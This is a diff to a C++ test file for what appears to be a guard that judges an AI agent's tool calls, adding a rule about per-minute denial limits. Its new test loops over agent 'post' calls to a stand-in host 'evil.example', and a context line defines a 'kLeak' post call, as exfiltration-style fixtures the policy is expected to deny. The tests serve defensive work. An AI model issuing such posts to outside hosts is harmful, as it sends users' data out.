@@ -47,13 +47,15 @@ constexpr std::string_view kLeak = R"({"tool":"post","arguments":{"url":"https:/
 /// A run of the desk, and what it is judged by.
 class Replay {
  public:
-  explicit Replay(RunMemory memory, AskedCalls asked = AskedCalls::Stopped, const Policy& policy = desk())
+  explicit Replay(RunMemory memory, AskedCalls asked = AskedCalls::Stopped, const Policy& policy = desk(),
+                  MinuteLimits minute_limits = MinuteLimits::Count)
       : run_({.engine = Engine::strict(),
               .policy = policy,
               .session = session_,
               .now = TimePoint(std::chrono::sys_days(std::chrono::year(2026) / 11 / 30)),
               .memory = memory,
               .asked = asked,
+              .minute_limits = minute_limits,
               .sealed = sealed_}) {
     session_.tenant = "acme";
     session_.allowed_tenants = {"acme"};
@@ -147,6 +149,16 @@ TEST(ReplayedRun, CountsAnAskedCallAsSentWhenItPasses) {
     EXPECT_EQ(run.judge(kMail), Confirm);
     EXPECT_EQ(run.state().tally.sends, asked == AskedCalls::Pass ? 1u : 0u);
   }
+}
+
+// Calls of which nobody knows when they were made would all fall into one minute, and be stopped for that.
+TEST(ReplayedRun, IsNotSuspendedByDenialsOfNoKnownTime) {
+  Replay run(RunMemory::Sequence, AskedCalls::Stopped, Replay::desk(), MinuteLimits::LeftOut);
+  for (int i = 0; i < 50; ++i) {
+    const std::string call = R"({"tool":"post","arguments":{"url":"https://evil.example/)" + std::to_string(i) + "\"}}";
+    EXPECT_EQ(run.rule(call), RuleId::DestinationUnlisted);
+  }
+  EXPECT_EQ(run.judge(kPost), Allow);
 }
 
 TEST(ReplayedRun, IsSuspendedByAsManyDenialsAsThePolicySays) {
